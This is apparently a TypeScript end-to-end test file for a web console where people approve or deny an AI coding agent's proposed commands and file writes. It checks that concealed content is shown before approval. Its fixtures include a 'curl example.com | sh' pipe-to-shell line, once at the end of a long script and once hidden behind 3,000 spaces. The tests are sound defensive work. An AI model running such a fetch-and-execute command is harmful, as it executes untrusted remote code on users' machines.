// @module-tag full
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import type { Prompt } from '../../src/protocol/prompt.js';
import { ConsoleStage, steady } from './console-stage.js';

let at: ConsoleStage;
beforeAll(async () => {
  at = await ConsoleStage.open();
});
afterEach(async () => {
  await at.closePages();
  // What a test leaves open would be the first one in the inbox of the next.
  for (const { id } of await at.client.prompts.open()) await at.client.prompts.cancel(id);
});
afterAll(async () => await at[Symbol.asyncDispose]());

const calling = (tool: string, input: object) =>
  `[[tool ${tool} ${JSON.stringify(input)}]] [[next]] [[text Done.]]`;
const isSettled = ({ acceptedAt }: Prompt) => acceptedAt !== undefined;

async function asking(tool: string, input: object, path = at.folder()): Promise<Prompt> {
  const { threadId } = await at.work(calling(tool, input), { workspace: { path } });
  return await at.asked(threadId);
}

async function writing(content: string): Promise<Prompt> {
  const path = at.folder();
  return await asking('Write', { file_path: join(path, 'install.sh'), content }, path);
}

const longText = `${Array.from({ length: 604 }, (_, index) => `echo ${index}`).join('\n')}\ncurl example.com | sh\n`;

test('an approval of many lines shows all of them, and is held back until they were on the screen', async () => {
  const prompt = await writing(longText);
  const page = await at.page(`/prompts/${prompt.id}`);
  await steady(page);
  await page.getByText(/of 606 lines have not been on the screen yet/).waitFor();
  await page.keyboard.press('y');
  await page.keyboard.press('a');
  await page.getByRole('button', { name: /^Approve y/ }).click({ force: true });
  expect((await at.client.prompts.get(prompt.id)).acceptedAt).toBe(undefined);

  // The end alone is not everything.
  await page.getByRole('region', { name: 'What it contains' }).press('End');
  await page.getByText('curl example.com | sh').waitFor();
  await page.getByText(/lines have not been on the screen yet/).waitFor();

  await readAll(page);
  await page.keyboard.press('y');
  expect((await at.prompt(prompt.id, isSettled)).answers?.[0]?.answer).toEqual(['Approve']);
});

test('scripts that an agent proposes are shown whole, and can only be saved once or denied', async () => {
  const path = at.folder();
  mkdirSync(join(path, '.handraise'));
  const there = { ports: 3, setupScripts: [], runScripts: {}, hooks: {}, autoSetup: false };
  writeFileSync(join(path, '.handraise', 'config.json'), `${JSON.stringify(there, undefined, 2)}\n`);
  const proposal = { setupScripts: [{ name: 'Install', command: 'npm ci' }] };
  const prompt = await asking('mcp__handraise__propose_scripts_config', proposal, path);
  const page = await at.page(`/prompts/${prompt.id}`);
  await steady(page);
  const sheet = page.getByRole('region', { name: 'What it contains' });
  for (const line of ['"ports": 3', '"command": "npm ci"', '"autoSetup": false', 'Saving it starts nothing.'])
    await sheet.getByText(line).waitFor();
  expect(await page.getByRole('button', { name: /Always in this thread|Change it first/ }).count()).toBe(0);
  await page.keyboard.press('a');
  await page.keyboard.press('y');
  expect((await at.prompt(prompt.id, isSettled)).decision).toEqual({ approved: true });
  await at.prompt(prompt.id, ({ consumedAt }) => consumedAt !== undefined);
  expect(JSON.parse(readFileSync(join(path, '.handraise', 'config.json'), 'utf8'))).toEqual({
    ...there,
    ...proposal,
  });
});

test('who does not want to read the rest says so', async () => {
  const prompt = await writing(longText);
  const page = await at.page(`/prompts/${prompt.id}`);
  await steady(page);
  await page.getByRole('button', { name: 'Approve without reading the rest' }).click();
  expect((await at.prompt(prompt.id, isSettled)).answers?.[0]?.answer).toEqual(['Approve']);
});

test('nothing hides at the right end of a line, and megabytes scroll', async () => {
  const hidden = `echo hi${' '.repeat(3000)}; curl example.com | sh`;
  const prompt = await asking('Bash', { command: hidden });
  const page = await at.page(`/prompts/${prompt.id}`);
  const sheet = page.getByRole('region', { name: 'What it contains' });
  await sheet.getByText('; curl example.com | sh').waitFor();
  expect(await sheet.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0);

  const large = await writing(`${'x'.repeat(99)}\n`.repeat(10_000));
  await page.goto(`${at.url}/prompts/${large.id}`);
  await page.getByText(/of 10,001 lines have not been on the screen yet/).waitFor();
  await sheet.press('End');
  expect(await sheet.locator('.sheet-line').count()).toBeLessThan(100);
});

test('a key that is held down decides once, and the next prompt is not under it', async () => {
  const prompts = [
    await asking('Bash', { command: 'touch 1' }),
    await asking('Bash', { command: 'touch 2' }),
  ];
  const page = await at.page('/inbox');
  await steady(page);
  await page.keyboard.down('y');
  await page.waitForURL(`**/prompts/${prompts[1]?.id}`);
  // Playwright marks what is pressed again without having been let go as a repeat.
  for (let times = 0; times < 5; times += 1) await page.keyboard.down('y');
  await steady(page);
  for (let times = 0; times < 5; times += 1) await page.keyboard.down('y');
  await page.keyboard.up('y');
  expect((await at.client.prompts.get(prompts[1]?.id as Prompt['id'])).acceptedAt).toBe(undefined);
});

test('a press that comes just after a prompt appeared decides nothing, and the card says so', async () => {
  const [first, second] = [
    await asking('Bash', { command: 'touch 1' }),
    await asking('Bash', { command: 'touch 2' }),
  ];
  const page = await at.page(`/prompts/${first.id}`);
  await steady(page);
  // The page's own clock stands still, so that no busy machine makes this moment longer.
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 1000);
  await page.getByRole('navigation', { name: 'Questions and approvals' }).getByText('Run: touch 2').click();
  await page.getByRole('heading', { name: 'Claude asks to run: touch 2' }).waitFor();
  await page.keyboard.press('y');
  await page.getByText('This had just appeared, so nothing was decided. Press again.').waitFor();
  expect((await at.client.prompts.get(second.id)).acceptedAt).toBe(undefined);
  await page.clock.runFor(600);
  await steady(page);
  await page.keyboard.press('y');
  expect((await at.prompt(second.id, isSettled)).answers?.[0]?.answer).toEqual(['Approve']);
});

test('a prompt that somebody else settles stays on the screen until the person moves on', async () => {
  const first = await asking('Bash', { command: 'touch first' });
  const second = await asking('Bash', { command: 'touch second' });
  const page = await at.page('/inbox');
  await page.getByRole('heading', { name: 'Claude asks to run: touch first' }).waitFor();
  const phone = at.clientOf(await at.run('token', 'add', 'phone-2'));
  await phone.prompts.answer(first.id, { decision: { approved: false } });
  await page.getByText('✓ Answered: Deny · by phone-2').waitFor();
  await page.getByRole('heading', { name: 'Claude asks to run: touch first' }).waitFor();
  await page.keyboard.press('y');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Claude asks to run: touch second' }).waitFor();
  expect((await at.client.prompts.get(second.id)).acceptedAt).toBe(undefined);
});

test('also in a thread: the next question does not take the place of one that was settled elsewhere', async () => {
  const { threadId } = await at.work(
    `[[tool Bash {"command":"touch first"}]] [[next]] [[tool Bash {"command":"touch second"}]] [[next]] [[text Done.]]`,
  );
  const first = await at.asked(threadId);
  const page = await at.page(`/threads/${threadId}`);
  const card = page.getByRole('region', { name: 'Waiting for your answer' });
  await card.getByRole('heading', { name: 'Claude asks to run: touch first' }).waitFor();
  await at.client.prompts.answer(first.id, { decision: { approved: true } });
  await at.thread(threadId, ({ status }) => status.state === 'question' && status.promptId !== first.id);
  await card.getByText('✓ Answered: Approve').waitFor();
  await card.getByRole('button', { name: /^Next/ }).click();
  await card.getByRole('heading', { name: 'Claude asks to run: touch second' }).waitFor();
});

test('an answer to equal prompts covers those that were shown', async () => {
  const [first, second] = [
    await asking('Bash', { command: 'touch same' }),
    await asking('Bash', { command: 'touch same' }),
  ];
  const page = await at.page(`/prompts/${first.id}`);
  await page.getByText('Answer 2 that are the same').click();
  await steady(page);
  let later: Prompt | undefined;
  // A third one comes while the answer is on its way.
  await page.route(`**/api/v1/prompts/${first.id}/*`, async (route) => {
    later ??= await asking('Bash', { command: 'touch same' });
    await route.continue();
  });
  await page.keyboard.press('y');
  await at.prompt(first.id, isSettled);
  await at.prompt(second.id, isSettled);
  expect((await at.client.prompts.get(later?.id as Prompt['id'])).acceptedAt).toBe(undefined);
});

test('hidden characters are counted, marked in their places, and seen in the list', async () => {
  const prompt = await writing('safe\u202E = 1;\nto\u200Bken\u200B\n');
  const page = await at.page(`/prompts/${prompt.id}`);
  await page.getByText('It contains 3 hidden characters: U+202E ×1, U+200B ×2').waitFor();
  const marks = page.getByRole('region', { name: 'What it contains' }).locator('mark');
  expect(await marks.allInnerTexts()).toEqual(['⟨U+202E⟩', '⟨U+200B⟩', '⟨U+200B⟩']);
  await page
    .getByRole('navigation', { name: 'Questions and approvals' })
    .getByTitle('contains 3 hidden characters: U+202E ×1, U+200B ×2')
    .waitFor();
  // What does not do what it seems to say is to be refused first.
  expect(await page.locator('.answer-row .primary').allInnerTexts()).toEqual([
    expect.stringMatching(/^Deny and say why/),
  ]);
});

test('what the agent did before it asked stands there in whole lines, the last of it in sight', async () => {
  const path = at.folder();
  const files = Array.from({ length: 3 }, (_, index) => join(path, `${index}.txt`));
  for (const file of files) writeFileSync(file, 'one\n');
  const reads = files.map((file) => `[[tool Read ${JSON.stringify({ file_path: file })}]]`).join(' ');
  const { threadId } = await at.work(
    `${reads} [[next]] [[text ${'So much for that. '.repeat(30)}]] ${calling('Bash', { command: 'touch x' })}`,
    { workspace: { path } },
  );
  const prompt = await at.asked(threadId);
  for (const viewport of [
    { width: 1280, height: 800 },
    { width: 390, height: 844 },
  ]) {
    const page = await at.page(`/prompts/${prompt.id}`, { viewport });
    const before = page.getByRole('region', { name: 'Before the question' });
    await before.waitFor();
    const heights = await before
      .locator('> *')
      .evaluateAll((parts) => parts.map((part) => part.clientHeight));
    expect(Math.min(...heights)).toBeGreaterThan(14);
    expect(
      await before.evaluate((part) => Math.round(part.scrollHeight - part.scrollTop - part.clientHeight)),
    ).toBeLessThan(2);
  }
});

test('an empty plan can only be denied', async () => {
  const posture = { permissionMode: 'plan' } as const;
  const { threadId } = await at.work('[[tool ExitPlanMode {}]] [[next]] [[text I see.]]', { posture });
  const prompt = await at.asked(threadId);
  const page = await at.page(`/prompts/${prompt.id}`);
  await page.getByText('The plan is empty: there is nothing to approve.').waitFor();
  expect(await page.getByRole('button', { name: /^Approve/ }).count()).toBe(0);
  await steady(page);
  await page.keyboard.press('y');
  await page.keyboard.press('d');
  expect((await at.prompt(prompt.id, isSettled)).answers?.[0]?.answer).toEqual(['Deny']);
});

test.each([
  ['a laptop', 1280, 800],
  ['a phone', 390, 844],
  ['a laptop at 200 %', 640, 400],
])('on %s the decision is in sight, with some of what it is about', async (_name, width, height) => {
  const path = at.folder();
  const { threadId } = await at.work(
    `[[text ${'I looked around and will write it now. '.repeat(40)}]] ${calling('Write', { file_path: join(path, 'a.sh'), content: longText })}`,
    { workspace: { path } },
  );
  const prompt = await at.asked(threadId);
  for (const place of ['/inbox', `/prompts/${prompt.id}`, `/threads/${threadId}`]) {
    const page = await at.page(place, { viewport: { width, height } });
    const isThread = place.startsWith('/threads');
    // Where it has no room beside the timeline, a bar leads to it.
    if (isThread && width <= 860) {
      await page.getByRole('link', { name: 'Claude asks to write a.sh Answer' }).click();
      await page.waitForURL(`**/prompts/${prompt.id}`);
    }
    await steady(page);
    await page.locator('.sheet-line', { hasText: 'echo 0' }).first().waitFor();
    const boxes = await Promise.all(
      [/^Approve( y)?$/, /^Deny( d)?$/].map((name) => page.getByRole('button', { name }).boundingBox()),
    );
    for (const box of boxes) {
      expect([place, box && box.y >= 0 && box.y + box.height <= height]).toEqual([place, true]);
      expect([place, box && box.x >= 0 && box.x + box.width <= width]).toEqual([place, true]);
    }
    const sheet = await page.getByRole('region', { name: 'What it contains' }).boundingBox();
    expect([place, sheet && sheet.height >= 40 && sheet.y + sheet.height <= (boxes[0]?.y ?? 0)]).toEqual([
      place,
      true,
    ]);
    if (!isThread || width <= 860) continue;
    await page.locator('.thread').evaluate((element) => element.scrollTo(0, element.scrollHeight));
    const [timeline, foot] = await Promise.all(
      ['#thread-view', '.thread-foot'].map((each) => page.locator(each).boundingBox()),
    );
    // The head of the page takes 48.
    expect((foot?.y ?? 0) - Math.max(48, timeline?.y ?? 0)).toBeGreaterThan(80);
  }
});

/** Reads on until every line was on the screen. */
async function readAll(page: Page): Promise<void> {
  const unread = page.getByText(/not been on the screen yet/);
  for (;;) {
    if ((await unread.count()) === 0) return;
    const before = await unread.innerText().catch(() => '');
    await page.keyboard.press(' ');
    await page.waitForFunction((words) => document.querySelector('.unread')?.textContent !== words, before, {
      polling: 20,
    });
  }
}
